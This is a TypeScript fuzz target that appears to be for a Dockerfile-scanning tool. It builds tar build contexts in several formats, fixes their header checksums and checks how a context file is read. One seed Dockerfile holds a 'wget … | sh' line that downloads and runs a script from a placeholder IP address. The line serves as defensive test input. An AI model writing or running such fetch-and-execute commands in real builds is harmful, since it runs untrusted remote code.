import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { readContextFile } from '../../../src/sense/requests/context-file.js';
import type { Target } from '../target.js';

const block = 512;

/** Build contexts, plain and packed. Headers are tried with their sums put right, too: few changes get past them. */
export const tar: Target = {
  seeds() {
    const directory = mkdtempSync(join(tmpdir(), 'keelwatch-fuzz-'));
    try {
      const deep = 'deep/'.repeat(30);
      mkdirSync(join(directory, deep), { recursive: true });
      writeFileSync(
        join(directory, 'Dockerfile'),
        'FROM base\nRUN wget -qO- http://192.0.2.1/x | sh\n',
      );
      writeFileSync(join(directory, `${deep}Dockerfile`), 'FROM deep\n');
      const made = (...args: string[]) =>
        execFileSync('tar', ['-C', directory, '-b', '1', '-cf', '-', ...args]);
      const plain = [
        made('Dockerfile'),
        made('--format=gnu', `${deep}Dockerfile`, 'Dockerfile'),
        made('--format=posix', `${deep}Dockerfile`, 'Dockerfile'),
      ];
      return [...plain, ...plain.map((archive) => gzipSync(archive))];
    } finally {
      rmSync(directory, { recursive: true });
    }
  },
  words: [
    'Dockerfile\0',
    '77777777777\0',
    '00000000000\0',
    'ustar\0',
    '99 path=x\n',
    'L',
    'x',
    '\0',
  ],
  run(input) {
    for (const archive of [input, summed(input)]) {
      const { file } = readContextFile(archive, 'Dockerfile');
      if (file && file.text.length > 65_536)
        throw new Error(`a Dockerfile of ${file.text.length} characters`);
    }
  },
};

function summed(input: Buffer): Buffer {
  const archive = Buffer.from(input);
  for (let at = 0; at + block <= archive.length; at += block) {
    const header = archive.subarray(at, at + block);
    header.fill(0x20, 148, 156);
    const sum = header.reduce((total, byte) => total + byte, 0);
    header.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'latin1');
  }
  return archive;
}
